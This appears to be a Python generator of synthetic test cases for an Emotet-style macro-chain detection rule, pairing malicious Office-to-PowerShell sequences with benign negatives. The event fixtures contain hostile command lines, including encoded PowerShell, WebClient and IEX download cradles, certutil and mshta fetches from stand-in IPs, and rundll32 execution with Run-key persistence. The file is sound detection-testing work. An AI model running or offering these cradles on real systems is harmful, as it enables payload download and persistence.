#!/usr/bin/env python3
"""Writes ../cases.toml: the declarative cases of `emotet-macro-chain`.

Run from anywhere: `python3 rules/emotet-macro-chain/cases/generate.py`. The events are
normalized NDJSON (docs/events.md) shaped as the Windows adapter maps Sysmon (1 process
create, 5 exit, 3 network, 11 file create, 13 registry value set, 22 DNS) and Security 4688
(no GUIDs), written from the documented Emotet behaviour (../shared/data/README.md; Microsoft
and vendor write-ups of Emotet's Word and Excel 4.0 droppers) rather than from any capture.
Each event is one line of a TOML literal string, so backslashes stay as JSON wrote them.
"""

import json
import pathlib
from datetime import datetime, timezone

OUT = pathlib.Path(__file__).resolve().parent.parent / "cases.toml"
T0 = int(datetime(2024, 5, 14, 9, 0, tzinfo=timezone.utc).timestamp() * 1000)
SYSMON = "Microsoft-Windows-Sysmon/Operational"

WORD = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"
EXCEL = r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE"
OUTLOOK = r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE"
EXPLORER = r"C:\Windows\explorer.exe"
WMIPRVSE = r"C:\Windows\System32\wbem\WmiPrvSE.exe"
SVCHOST = r"C:\Windows\System32\svchost.exe"
CMD = r"C:\Windows\System32\cmd.exe"
PS = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
RUNDLL = r"C:\Windows\SysWOW64\rundll32.exe"
REGSVR = r"C:\Windows\SysWOW64\regsvr32.exe"
CHROME = r"C:\Program Files\Google\Chrome\Application\chrome.exe"
EDGE = r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe"
TEMP = r"C:\Users\alice\AppData\Local\Temp"
RUN_KEY = r"HKU\S-1-5-21-1004336348-1177238915-682003330-1104\Software\Microsoft\Windows\CurrentVersion\Run"

# An Emotet-style encoded command: base64 of UTF-16LE PowerShell, as `-enc` takes it.
B64 = (
    "JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAA7"
    "ACQAYwBsAGkAZQBuAHQALgBEAG8AdwBuAGwAbwBhAGQARgBpAGwAZQAoACcAaAB0AHQAcAA6AC8ALwAyADAAMwAuADAA"
)
CRADLE = (
    "powershell -nop -w hidden -c \"$u='http://203.0.113.45/wp-admin/x/','http://198.51.100.7/js/y/';"
    "foreach($x in $u){try{(New-Object Net.WebClient).DownloadFile($x,'" + TEMP + r"\885.dll');break}catch{}}\""
)


def guid(n):
    return "{5770385F-C22A-43E0-BF4C-%012X}" % n


def ms(seconds):
    return T0 + int(seconds * 1000)


def event(t, cls, activity, host, code, **parts):
    ev = {
        "time": ms(t),
        "class": cls,
        "activity": activity,
        "source": {"format": "json", "code": code, "channel": SYSMON},
        "device": {"hostname": host},
    }
    ev.update(parts)
    return ev


def proc(n, pid, image, use_guid=True):
    """A process reference: pid, image and (Sysmon) a GUID derived from n."""
    p = {"pid": pid, "image": image}
    if use_guid:
        p["guid"] = guid(n)
    return p


def launch(t, host, child, cmd, parent, parent_cmd="", user="alice", start=None):
    """Sysmon 1 (or 4688 when the refs carry no GUID): `parent` starts `child`."""
    body = dict(child)
    body["cmd_line"] = cmd
    body["parent_pid"] = parent["pid"]
    body["parent_image"] = parent["image"]
    if "guid" in parent:
        body["parent_guid"] = parent["guid"]
    if parent_cmd:
        body["parent_cmd_line"] = parent_cmd
    body["start_time"] = ms(t if start is None else start)
    actor_process = {k: v for k, v in parent.items()}
    code = 1 if "guid" in child else 4688
    ev = event(
        t,
        "process",
        "create",
        host,
        code,
        actor={"user": {"name": user, "domain": "CORP"}, "process": actor_process},
        process=body,
    )
    if code == 4688:
        ev["source"]["channel"] = "Security"
    return ev


def exit_(t, host, p):
    return event(t, "process", "delete", host, 5, process=dict(p))


def connect(t, host, p, ip, port, user="alice"):
    return event(
        t,
        "network",
        "traffic",
        host,
        3,
        actor={"user": {"name": user, "domain": "CORP"}, "process": dict(p)},
        src={"ip": "10.1.2.15", "port": 49812},
        dst={"ip": ip, "port": port},
        network={"transport": "tcp", "direction": "outbound", "disposition": "established"},
    )


def dns(t, host, p, name):
    return event(t, "dns", "query", host, 22, actor={"process": dict(p)}, query={"name": name, "code": 1})


def write(t, host, p, path, user="alice"):
    return event(
        t,
        "file",
        "create",
        host,
        11,
        actor={"user": {"name": user, "domain": "CORP"}, "process": dict(p)},
        file={"path": path},
    )


def run_key(t, host, p, name, data):
    return event(
        t,
        "registry",
        "modify",
        host,
        13,
        actor={"process": dict(p)},
        registry={"key": RUN_KEY + "\\" + name, "value_name": name, "value_data": data},
    )


CASES = []


def case(name, description, events, findings=None, alerts=None, expect=(), config=None, events_file=None, fmt=None):
    CASES.append(
        {
            "name": name,
            "description": description,
            "events": events,
            "events_file": events_file,
            "format": fmt,
            "findings": findings,
            "alerts": alerts,
            "expect": list(expect),
            "config": config,
        }
    )


def expect(severity=None, stages=None, link=None, entities=(), count=None, title="Emotet-style macro chain", **context):
    e = {"title": title}
    if severity:
        e["severity"] = severity
    if entities:
        e["entities"] = list(entities)
    ctx = dict(context)
    if stages:
        ctx["stages"] = stages
    if link:
        ctx["link"] = link
    if ctx:
        e["context"] = ctx
    if count is not None:
        e["count"] = count
    return e


# --- the processes of the cases ---
explorer = proc(0x10, 3000, EXPLORER)
word = proc(0x11, 5100, WORD)
excel = proc(0x12, 5200, EXCEL)
cmd = proc(0x21, 6100, CMD)
ps = proc(0x22, 6200, PS)
dll_run = proc(0x23, 6300, RUNDLL)
wmi = proc(0x30, 2900, WMIPRVSE)
WORD_DOC = r'"' + WORD + r'" /n "C:\Users\alice\Downloads\Invoice_0514.docm" /o ""'
CMD_WRAPPER = (
    r'cmd /c m^s^g %username% /v Wo^rd exp^erienc^ed an er^ror tryi^ng to op^en th^e fi^le. '
    r'& p^owe^rs^hell -w hidden -enc ' + B64
)
DROP = TEMP + r"\885.dll"
COPY = r"C:\Users\alice\AppData\Local\Xvbkq\xvbkq.dll"


def word_opens(t=0, host="WS01"):
    return launch(t, host, word, WORD_DOC, explorer, "explorer.exe")


# 1. The whole chain.
case(
    "full six-stage chain from a Word macro",
    "Word opens Invoice_0514.docm; the macro runs a caret-obfuscated `cmd /c … powershell -enc`, "
    "PowerShell downloads 885.dll into %TEMP% from the first of several URLs, runs it with "
    "rundll32, the DLL copies itself under %LOCALAPPDATA% and adds a Run key for the copy: "
    "the documented Emotet epoch 4/5 sequence.",
    [
        word_opens(0),
        launch(20, "WS01", cmd, CMD_WRAPPER, word, WORD_DOC),
        launch(21, "WS01", ps, "powershell -w hidden -enc " + B64, cmd, CMD_WRAPPER),
        dns(22, "WS01", ps, "compromised-blog.example"),
        connect(23, "WS01", ps, "203.0.113.45", 80),
        write(25, "WS01", ps, DROP),
        launch(27, "WS01", dll_run, RUNDLL + ' "' + DROP + '",Control_RunDLL', ps),
        write(30, "WS01", dll_run, COPY),
        run_key(31, "WS01", dll_run, "Xvbkq", RUNDLL + ' "' + COPY + '",Control_RunDLL'),
        connect(40, "WS01", dll_run, "198.51.100.7", 8080),
    ],
    findings=5,
    alerts=1,
    expect=[
        expect(
            "critical",
            "1,2,3,4,5,6",
            "direct",
            entities=[
                "host:WS01/target",
                "user:alice/account",
                "process:WINWORD.EXE (pid 5100)/parent",
                "process:cmd.exe (pid 6100)/child",
                "file:" + DROP + "/dropped",
                "ip:203.0.113.45/destination",
            ],
            stage_count="6",
        ),
        expect("medium", "1,2"),
    ],
)

# 2. The direct variant, short.
case(
    "winword starts cmd /c powershell -enc",
    "The shortest documented form: Word's macro starts `cmd /c powershell -enc <base64>`. "
    "Two stages (Office launch, encoded command) make a medium finding.",
    [
        word_opens(0),
        launch(15, "WS01", cmd, "cmd /c powershell -w hidden -enc " + B64, word, WORD_DOC),
    ],
    findings=1,
    alerts=1,
    expect=[expect("medium", "1,2", "direct", entities=["process:WINWORD.EXE (pid 5100)/parent"], indicator="encoded command (-EncodedCommand with base64)")],
)

# 3. Excel 4.0 macro: Excel downloads the DLL itself, then rundll32 loads it.
case(
    "excel writes payload.dll and starts rundll32 on it",
    "Excel 4.0 (XLM) macro droppers (Emotet 2020–2022) call URLDownloadToFileA from EXCEL.EXE, "
    "write the DLL under C:\\ProgramData or C:\\Users\\Public, then EXEC rundll32 on it: stages "
    "1, 4 and 5; running the dropped file makes it critical.",
    [
        launch(0, "WS01", excel, '"' + EXCEL + r'" "C:\Users\alice\Downloads\Q2_report.xlsm"', explorer),
        write(8, "WS01", excel, r"C:\ProgramData\payload.dll"),
        launch(9, "WS01", dll_run, RUNDLL + r" C:\ProgramData\payload.dll,DllRegisterServer", excel),
    ],
    alerts=1,
    expect=[expect("critical", "1,4,5", "direct", entities=["file:C:\\ProgramData\\payload.dll/dropped"])],
)

case(
    "excel starts regsvr32 on a ..\\ relative payload",
    "XLM droppers also write `..\\Drezd.red` next to the workbook and run `regsvr32 -s ..\\Drezd.red`; "
    "the write may not be logged. rundll32/regsvr32 started by Office on a user-folder file is "
    "still stage 5.",
    [
        launch(0, "WS01", excel, '"' + EXCEL + r'" "C:\Users\alice\Downloads\Q2_report.xlsm"', explorer),
        launch(6, "WS01", proc(0x24, 6400, REGSVR), REGSVR + r" -s ..\Drezd.red", excel),
    ],
    findings=1,
    expect=[expect("critical", "1,5")],
)

# 4. WMI broken link.
wmi_ps = proc(0x40, 7100, PS)
WMI_CRADLE = (
    "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.45/a')\""
)
case(
    "WMI broken link: WmiPrvSE starts a cradle after Word opened a docm",
    "The macro creates the process through WMI Win32_Process.Create, so powershell's parent is "
    "WmiPrvSE.exe, not Word. Word opened Invoice_0514.docm 25 s before on the same host: the rule "
    "links them by time and host, and the cradle's connection makes a third stage.",
    [
        word_opens(0),
        launch(25, "WS01", wmi_ps, WMI_CRADLE, wmi, r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding", user="alice"),
        connect(27, "WS01", wmi_ps, "203.0.113.45", 80),
    ],
    alerts=1,
    expect=[
        expect(
            "high",
            "1,2,3",
            "wmi",
            entities=["process:WINWORD.EXE (pid 5100)/parent", "process:powershell.exe (pid 7100)/child"],
        )
    ],
)

case(
    "WMI link too late: the shell comes 150 s after the document",
    "Boundary of indirect_link_seconds (120): WmiPrvSE starts the same cradle 150 s after Word "
    "opened the document. Nothing links them.",
    [word_opens(0), launch(150, "WS01", wmi_ps, WMI_CRADLE, wmi), connect(152, "WS01", wmi_ps, "203.0.113.45", 80)],
    findings=0,
)

case(
    "WMI link widened by config",
    "The same 150 s gap joins when a tenant sets indirect_link_seconds = 300.",
    [word_opens(0), launch(150, "WS01", wmi_ps, WMI_CRADLE, wmi), connect(152, "WS01", wmi_ps, "203.0.113.45", 80)],
    alerts=1,
    config={"indirect_link_seconds": 300},
    expect=[expect("high", "1,2,3", "wmi")],
)

case(
    "WMI lateral movement with no Office is not a macro chain",
    "WmiPrvSE starting encoded PowerShell is what remote WMI execution (Invoke-WmiMethod, Empire, "
    "impacket wmiexec) looks like on the target; with no Office launch on the host it belongs to "
    "the lateral-movement rule, not this one.",
    [
        launch(0, "SRV01", wmi_ps, "powershell -noP -sta -w 1 -enc " + B64, wmi, user="admin"),
        connect(2, "SRV01", wmi_ps, "10.1.2.50", 443, user="admin"),
    ],
    findings=0,
)

case(
    "a document opened on another host does not link",
    "Word opens a document on WS01; WmiPrvSE starts a cradle on WS02 20 s later. Indirect links are "
    "per host.",
    [word_opens(0, "WS01"), launch(20, "WS02", wmi_ps, WMI_CRADLE, wmi)],
    findings=0,
)

# 5. COM ShellBrowserWindow.
com_ps = proc(0x41, 7200, PS)
case(
    "COM ShellBrowserWindow: explorer starts encoded PowerShell after Word",
    "Macros call ShellBrowserWindow/ShellWindows .Document.Application.ShellExecute, so the shell "
    "is a child of explorer.exe. Word opened a document 10 s before; the encoded command links it.",
    [
        word_opens(0),
        launch(10, "WS01", com_ps, "powershell.exe -w hidden -enc " + B64, explorer, "explorer.exe"),
    ],
    findings=1,
    expect=[expect("medium", "1,2", "com", entities=["process:WINWORD.EXE (pid 5100)/parent"])],
)

case(
    "explorer starting a plain cmd after Word is a user, not a macro",
    "A user opens a document and then a command prompt from the Start menu: explorer.exe → "
    "cmd.exe with no encoded command or cradle. explorer children need a stage-2 command line.",
    [word_opens(0), launch(30, "WS01", proc(0x42, 7300, CMD), r'"C:\Windows\system32\cmd.exe"', explorer)],
    findings=0,
)

# 6. Pid reuse.
ps_a = proc(0x51, 4444, PS)
ps_b = proc(0x52, 4444, r"C:\Program Files\Contoso\Updater\updater.exe")
case(
    "pid reuse with a new GUID does not join the tree",
    "powershell (pid 4444) from Word's macro exits; a signed updater later gets pid 4444 with "
    "another ProcessGuid and downloads an installer into %TEMP%. The chain keeps its two stages.",
    [
        word_opens(0),
        launch(10, "WS01", ps_a, "powershell -enc " + B64, word),
        exit_(12, "WS01", ps_a),
        launch(60, "WS01", ps_b, '"' + ps_b["image"] + '" /silent', explorer),
        connect(61, "WS01", ps_b, "192.0.2.80", 443),
        write(62, "WS01", ps_b, TEMP + r"\contoso_setup.exe"),
    ],
    findings=1,
    expect=[expect("medium", "1,2", count=1)],
)

word_nog = proc(0, 5100, WORD, use_guid=False)
ps_nog = proc(0, 4444, PS, use_guid=False)
upd_nog = proc(0, 4444, r"C:\Program Files\Contoso\Updater\updater.exe", use_guid=False)
case(
    "pid reuse without GUIDs (Security 4688) does not join the tree",
    "The same with Security 4688 events, which carry no GUID: the new process with pid 4444 "
    "replaces the old one's entry, so its later connection is not the tree's.",
    [
        launch(0, "WS01", word_nog, WORD_DOC, proc(0, 3000, EXPLORER, use_guid=False)),
        launch(10, "WS01", ps_nog, "powershell -enc " + B64, word_nog),
        launch(60, "WS01", upd_nog, "updater.exe /silent", proc(0, 3000, EXPLORER, use_guid=False)),
        connect(61, "WS01", upd_nog, "192.0.2.80", 443),
    ],
    findings=1,
    expect=[expect("medium", "1,2", count=1)],
)

case(
    "tree followed by pid without GUIDs",
    "Security 4688 has pids only: Word (pid 5100) → powershell -enc (pid 4444), and a Windows "
    "Filtering Platform connection by pid 4444 joins as stage 3.",
    [
        launch(0, "WS01", word_nog, WORD_DOC, proc(0, 3000, EXPLORER, use_guid=False)),
        launch(10, "WS01", ps_nog, "powershell -enc " + B64, word_nog),
        connect(12, "WS01", ps_nog, "203.0.113.45", 80),
    ],
    alerts=1,
    expect=[expect("high", "1,2,3")],
)

# 7. Tree membership propagates.
cmd2 = proc(0x61, 6600, CMD)
ps2 = proc(0x62, 6700, PS)
cert = proc(0x63, 6800, r"C:\Windows\System32\certutil.exe")
case(
    "grandchildren are in the tree",
    "Word → cmd /c start.bat (nothing suspicious yet) → powershell -enc → certutil -urlcache: the "
    "indicators of the grandchildren count for Word's chain.",
    [
        word_opens(0),
        launch(5, "WS01", cmd2, r"cmd /c C:\Users\alice\AppData\Local\Temp\start.bat", word),
        launch(6, "WS01", ps2, "powershell -enc " + B64, cmd2),
        launch(8, "WS01", cert, r"certutil -urlcache -split -f http://203.0.113.45/p.exe C:\Users\Public\p.exe", ps2),
        write(9, "WS01", cert, r"C:\Users\Public\p.exe"),
    ],
    alerts=1,
    expect=[expect("high", "1,2,4", entities=["file:C:\\Users\\Public\\p.exe/dropped"])],
)

# 8. The window.
case(
    "stages further apart than the window do not join",
    "Word starts `cmd /c ping` (stage 1 only); 12 minutes later that cmd starts encoded "
    "PowerShell. The tree entry expired after 10 minutes: no chain reaches two stages.",
    [
        word_opens(0),
        launch(5, "WS01", cmd2, "cmd /c ping -n 1 fileserver", word),
        launch(5 + 12 * 60, "WS01", ps2, "powershell -enc " + B64, cmd2),
        connect(5 + 12 * 60 + 2, "WS01", ps2, "203.0.113.45", 80),
    ],
    findings=0,
)

case(
    "stages 9 minutes apart join",
    "The same with a 9-minute gap, inside the 10-minute window.",
    [
        word_opens(0),
        launch(5, "WS01", cmd2, "cmd /c ping -n 1 fileserver", word),
        launch(5 + 9 * 60, "WS01", ps2, "powershell -enc " + B64, cmd2),
    ],
    findings=1,
    expect=[expect("medium", "1,2")],
)

case(
    "a chain is re-reported with one dedup key as stages add up",
    "Each event that adds a stage reports the chain again under the same dedup key: at two "
    "stages (medium), three (high), four (high) and at the execution of the dropped file "
    "(critical) — four reports of one alert. The second shell adds no stage and no report.",
    [
        word_opens(0),
        launch(10, "WS01", cmd, "cmd /c powershell -enc " + B64, word),
        launch(11, "WS01", ps, "powershell -enc " + B64, cmd),
        connect(70, "WS01", ps, "203.0.113.45", 80),
        write(130, "WS01", ps, DROP),
        launch(190, "WS01", dll_run, RUNDLL + ' "' + DROP + '",Control_RunDLL', ps),
    ],
    findings=4,
    alerts=1,
    expect=[
        expect("medium", "1,2", count=1),
        expect("high", "1,2,3", count=1),
        expect("high", "1,2,3,4", count=1),
        expect("critical", "1,2,3,4,5", count=1),
    ],
)

# 9. Execution of a dropped file outside the tree, then its Run key.
payload = proc(0x71, 8100, r"C:\Users\alice\AppData\Roaming\Fxkl\fxkl.exe")
case(
    "dropped exe run by the user, then its Run key",
    "PowerShell from Word writes fxkl.exe under %APPDATA%; the user (explorer.exe) runs it; the "
    "payload adds a Run key for itself. Execution joins by the file the tree wrote, persistence by "
    "the payload now being in the tree.",
    [
        word_opens(0),
        launch(10, "WS01", ps, "powershell -enc " + B64, word),
        write(20, "WS01", ps, payload["image"]),
        launch(60, "WS01", payload, '"' + payload["image"] + '"', explorer),
        run_key(62, "WS01", payload, "Fxkl", '"' + payload["image"] + '"'),
    ],
    alerts=1,
    expect=[expect("critical", "1,2,4,5,6")],
)

# 10. Other stage-2 forms.
case(
    "word starts mshta on a URL",
    "mshta http://… from a document is a cradle of its own (stage 2 by the URL).",
    [word_opens(0), launch(5, "WS01", proc(0x81, 8200, r"C:\Windows\System32\mshta.exe"), "mshta http://203.0.113.45/x.hta", word)],
    findings=1,
    expect=[expect("medium", "1,2")],
)

case(
    "one Word process, two shells: one alert",
    "A macro that starts cmd and then powershell is one chain (dedup key: host and the Office "
    "process).",
    [
        word_opens(0),
        launch(5, "WS01", cmd, CMD_WRAPPER, word),
        launch(6, "WS01", proc(0x82, 8300, PS), "powershell -enc " + B64, word),
    ],
    alerts=1,
    expect=[expect("medium", "1,2")],
)

# 11. Thresholds and tuning.
case(
    "a single stage is not reported by default",
    "Word → `cmd /c echo` alone is one stage (office-spawns-shell reports single launches).",
    [word_opens(0), launch(5, "WS01", cmd, "cmd /c echo %date% > out.txt", word)],
    findings=0,
)

case(
    "min_stages = 1 reports a single stage as low",
    "Boundary of min_stages: the same launch with min_stages = 1.",
    [word_opens(0), launch(5, "WS01", cmd, "cmd /c echo %date% > out.txt", word)],
    findings=1,
    config={"min_stages": 1},
    expect=[expect("low", "1")],
)

ADDIN = r'cmd /c "C:\Program Files\Contoso\ExcelSync\sync.cmd" http://intranet.contoso.example/api'
case(
    "a sanctioned add-in's command line is allowlisted",
    "An Excel add-in runs a sync script with an intranet URL (a stage-2 indicator). Listing its "
    "path in allowed_command_lines keeps it from rooting a chain.",
    [launch(0, "WS01", excel, '"' + EXCEL + '"', explorer), launch(5, "WS01", cmd, ADDIN, excel)],
    findings=0,
    config={"allowed_command_lines": [r"\Contoso\ExcelSync\sync.cmd"]},
)

case(
    "the same add-in without the allowlist",
    "Without the allowlist the launch and its URL are two stages.",
    [launch(0, "WS01", excel, '"' + EXCEL + '"', explorer), launch(5, "WS01", cmd, ADDIN, excel)],
    findings=1,
    expect=[expect("medium", "1,2")],
)

# 12. Hard negatives.
admin_ps = proc(0x91, 9100, PS)
case(
    "administrator runs encoded PowerShell with no Office",
    "An administrator starts `powershell -enc` from explorer and cmd, downloads a tool into "
    "%TEMP% and runs it. Encoded commands and downloads alone are not a macro chain.",
    [
        launch(0, "ADMIN01", admin_ps, "powershell.exe -NoProfile -enc " + B64, explorer, user="adm_bob"),
        connect(2, "ADMIN01", admin_ps, "192.0.2.10", 443, user="adm_bob"),
        write(3, "ADMIN01", admin_ps, r"C:\Users\adm_bob\AppData\Local\Temp\tool.exe", user="adm_bob"),
        launch(4, "ADMIN01", proc(0x92, 9200, r"C:\Users\adm_bob\AppData\Local\Temp\tool.exe"), "tool.exe /q", admin_ps, user="adm_bob"),
        launch(5, "ADMIN01", proc(0x93, 9300, CMD), "cmd /c powershell -e " + B64, explorer, user="adm_bob"),
    ],
    findings=0,
)

dcom_excel = proc(0xA1, 9500, EXCEL)
case(
    "Excel started by DCOM on a server, nothing suspicious follows",
    "A reporting service automates Excel over DCOM: svchost (-k DcomLaunch) starts "
    "`EXCEL.EXE /automation -Embedding`, Excel saves a workbook and talks to its cloud. Then a WMI "
    "management job starts PowerShell: an automation start is not a document opened by a user.",
    [
        launch(0, "SRV02", dcom_excel, '"' + EXCEL + '" /automation -Embedding', proc(0xA0, 700, SVCHOST), r"C:\Windows\system32\svchost.exe -k DcomLaunch -p", user="svc_report"),
        write(5, "SRV02", dcom_excel, r"C:\Reports\2024-05\sales.xlsx", user="svc_report"),
        connect(6, "SRV02", dcom_excel, "52.109.8.20", 443, user="svc_report"),
        launch(30, "SRV02", proc(0xA2, 9600, PS), "powershell.exe -NoProfile -File C:\\ops\\inventory.ps1", wmi, user="svc_report"),
    ],
    findings=0,
)

case(
    "Office starting its own helpers",
    "Word prints through splwow64.exe, Office runs msoia.exe and OfficeClickToRun updates: none is "
    "a shell.",
    [
        word_opens(0),
        launch(5, "WS01", proc(0xB1, 9700, r"C:\Windows\splwow64.exe"), "splwow64.exe 12288", word),
        launch(6, "WS01", proc(0xB2, 9710, r"C:\Program Files\Microsoft Office\root\Office16\msoia.exe"), "msoia.exe scan upload", word),
        launch(7, "WS01", proc(0xB3, 9720, r"C:\Program Files\Common Files\microsoft shared\ClickToRun\OfficeClickToRun.exe"), "OfficeClickToRun.exe /update user", word),
    ],
    findings=0,
)

outlook = proc(0xC1, 9800, OUTLOOK)
chrome = proc(0xC2, 9810, CHROME)
case(
    "Outlook opens a link in the browser; the user downloads an installer",
    "outlook.exe → chrome.exe/msedge.exe with a URL; the browser writes setup.exe into Downloads "
    "and the user runs it. Browsers are not shells, and downloads by the user are not a tree.",
    [
        launch(0, "WS01", outlook, '"' + OUTLOOK + '"', explorer),
        launch(5, "WS01", chrome, '"' + CHROME + '" -- "https://vendor.example/download"', outlook),
        launch(6, "WS01", proc(0xC3, 9820, EDGE), '"' + EDGE + '" --single-argument https://vendor.example/x', outlook),
        connect(7, "WS01", chrome, "192.0.2.44", 443),
        write(20, "WS01", chrome, r"C:\Users\alice\Downloads\setup.exe"),
        launch(30, "WS01", proc(0xC4, 9830, r"C:\Users\alice\Downloads\setup.exe"), "setup.exe", explorer),
    ],
    findings=0,
)

case(
    "a browser download while another host has a chain",
    "A chain on WS01 does not adopt WS02's browser download and run of an executable.",
    [
        word_opens(0, "WS01"),
        launch(5, "WS01", cmd, "cmd /c powershell -enc " + B64, word),
        write(20, "WS02", proc(0xC5, 9840, CHROME), r"C:\Users\carol\Downloads\885.dll"),
        launch(30, "WS02", proc(0xC6, 9850, RUNDLL), RUNDLL + r" C:\Users\carol\Downloads\885.dll,#1", explorer),
    ],
    findings=1,
    expect=[expect("medium", "1,2", count=1)],
)
case(
    "Outlook starting at logon is not a document opened",
    "OUTLOOK.EXE starts with the session; a WMI job then starts a cradle-like PowerShell 40 s "
    "later. Outlook's launch is not a document, so nothing links them (an attachment Outlook "
    "saves into the Internet cache would be).",
    [
        launch(0, "WS01", outlook, '"' + OUTLOOK + '"', explorer),
        launch(40, "WS01", wmi_ps, WMI_CRADLE, wmi),
    ],
    findings=0,
)

case(
    "an attachment Outlook saves into the Internet cache is a document opened",
    "Outlook writes Invoice.doc into INetCache\\Content.Outlook to open it; WmiPrvSE starts a "
    "cradle 30 s later: the WMI broken link through an attachment.",
    [
        launch(0, "WS01", outlook, '"' + OUTLOOK + '"', explorer),
        write(10, "WS01", outlook, r"C:\Users\alice\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\Q1W2E3R4\Invoice.doc"),
        launch(40, "WS01", wmi_ps, WMI_CRADLE, wmi),
    ],
    findings=1,
    expect=[expect("medium", "1,2", "wmi", entities=["process:OUTLOOK.EXE (pid 9800)/parent"])],
)
case(
    "indirect_link_seconds = 0 turns indirect links off",
    "The WMI broken link of the earlier case, with indirect links turned off.",
    [word_opens(0), launch(25, "WS01", wmi_ps, WMI_CRADLE, wmi), connect(27, "WS01", wmi_ps, "203.0.113.45", 80)],
    findings=0,
    config={"indirect_link_seconds": 0},
)

HWP = r"C:\Program Files (x86)\Hnc\Office 2018\HOffice100\Bin\Hwp.exe"
case(
    "extra_office adds a document editor",
    "Hangul (hwp.exe) documents carry the same kind of macro droppers; with extra_office = "
    "[hwp.exe] its shell roots a chain.",
    [launch(5, "WS01", cmd, "cmd /c powershell -enc " + B64, proc(0xD1, 5500, HWP))],
    findings=1,
    config={"extra_office": ["hwp.exe"]},
    expect=[expect("medium", "1,2", entities=["process:Hwp.exe (pid 5500)/parent"])],
)

case(
    "a DLL the tree wrote, loaded by any process (Sysmon 7), is stage 5",
    "PowerShell from Word writes 885.dll; only the image load of it into a rundll32 is logged "
    "(its launch was filtered out by the Sysmon configuration).",
    [
        word_opens(0),
        launch(10, "WS01", ps, "powershell -enc " + B64, word),
        write(20, "WS01", ps, DROP),
        event(30, "process", "open", "WS01", 7, process=dict(dll_run), file={"path": DROP}),
    ],
    alerts=1,
    expect=[expect("critical", "1,2,4,5", entities=["file:" + DROP + "/dropped"])],
)

odd = TEMP + r"\oxnv1.ooccxx"
case(
    "a payload with an odd extension counts as a drop when it is run",
    "certutil in Word's tree saves oxnv1.ooccxx (not an executable extension: no stage 4 yet); "
    "regsvr32 then loads it: stages 4 and 5 together.",
    [
        word_opens(0),
        launch(5, "WS01", cert, r"certutil -urlcache -split -f http://203.0.113.45/o " + odd, word),
        write(8, "WS01", cert, odd),
        launch(9, "WS01", proc(0x24, 6400, REGSVR), REGSVR + " -s " + odd, word),
    ],
    findings=2,
    expect=[expect("medium", "1,2", count=1), expect("critical", "1,2,4,5", count=1)],
)

# 13. Mixed sources.
cmd_nog = proc(0, 6100, CMD, use_guid=False)
case(
    "Sysmon and Security 4688 of the same launches make one alert",
    "Hosts that log both Sysmon 1 and Security 4688 see every launch twice, the 4688 copy "
    "without GUIDs. The pid-only copy of Word's launch joins the chain Sysmon rooted instead "
    "of starting a second one.",
    [
        word_opens(0),
        launch(0, "WS01", word_nog, WORD_DOC, proc(0, 3000, EXPLORER, use_guid=False)),
        launch(10, "WS01", cmd, "cmd /c powershell -enc " + B64, word, WORD_DOC),
        launch(10, "WS01", cmd_nog, "cmd /c powershell -enc " + B64, word_nog),
        launch(11, "WS01", ps, "powershell -enc " + B64, cmd),
        connect(12, "WS01", ps, "203.0.113.45", 80),
    ],
    findings=2,
    alerts=1,
    expect=[expect("high", "1,2,3")],
)

# 14. Real log lines (OTRF, MIT; see cases/README.md).
case(
    "real Empire WMI stager with no Office stays quiet",
    "Six verbatim Sysmon lines of the OTRF Empire WMI capture (NXLog JSON): WmiPrvSE.exe starts "
    "`powershell -noP -sta -w 1 -enc …`, which connects to 10.10.10.5:80 and runs whoami. Remote "
    "WMI execution with no Office launch is lateral movement, not a macro chain.",
    None,
    events_file="cases/otrf-empire-wmi.jsonl",
    fmt="winevent-json",
    findings=0,
)

case(
    "real Empire WMI stager after a Word launch is the WMI broken link",
    "The same six lines after one synthetic Sysmon 1 of WINWORD.EXE opening a .docm on "
    "WORKSTATION6 33 s earlier (NXLog shape; marked synthetic in its Message): the WMI-launched "
    "encoded PowerShell roots Word's chain through the real adapter, its connection to "
    "10.10.10.5:80 is stage 3, and its __PSScriptPolicyTest_ writes are not drops.",
    None,
    events_file="cases/otrf-empire-wmi-after-word.jsonl",
    fmt="winevent-json",
    findings=2,
    alerts=1,
    expect=[
        expect("medium", "1,2", "wmi", count=1),
        expect(
            "high",
            "1,2,3",
            "wmi",
            entities=["host:WORKSTATION6", "user:pgustavo", "ip:10.10.10.5/destination", "process:WINWORD.EXE/parent"],
            count=1,
        ),
    ],
)


def toml_value(v):
    if isinstance(v, bool):
        return "true" if v else "false"
    if isinstance(v, int):
        return str(v)
    if isinstance(v, str):
        return json.dumps(v)
    if isinstance(v, list):
        return "[" + ", ".join(toml_value(x) for x in v) + "]"
    if isinstance(v, dict):
        return "{ " + ", ".join(f"{k} = {toml_value(x)}" for k, x in v.items()) + " }"
    raise TypeError(v)


def main():
    lines = [
        "# Cases of the `emotet-macro-chain` rule (docs/rule-cases.md).",
        "# GENERATED by cases/generate.py from the documented Emotet behaviour: edit that script,",
        "# not this file, then run `python3 rules/emotet-macro-chain/cases/generate.py`.",
        "",
        'rule = "emotet-macro-chain"',
    ]
    names = set()
    for c in CASES:
        assert c["name"] not in names, c["name"]
        names.add(c["name"])
        lines += ["", "[[case]]", f"name = {toml_value(c['name'])}", f"description = {toml_value(c['description'])}"]
        if c["config"]:
            lines.append(f"config = {toml_value(c['config'])}")
        if c["format"]:
            lines.append(f"format = {toml_value(c['format'])}")
        if c["events_file"]:
            lines.append(f"events_file = {toml_value(c['events_file'])}")
        else:
            body = "\n".join(json.dumps(e, separators=(",", ":")) for e in c["events"])
            assert "'''" not in body
            lines.append("events = '''\n" + body + "\n'''")
        if c["findings"] is not None:
            lines.append(f"findings = {c['findings']}")
        if c["alerts"] is not None:
            lines.append(f"alerts = {c['alerts']}")
        for e in c["expect"]:
            lines.append("")
            lines.append("[[case.expect]]")
            for k, v in e.items():
                lines.append(f"{k} = {toml_value(v)}")
    OUT.write_text("\n".join(lines) + "\n")
    print(f"{len(CASES)} cases written to {OUT}")


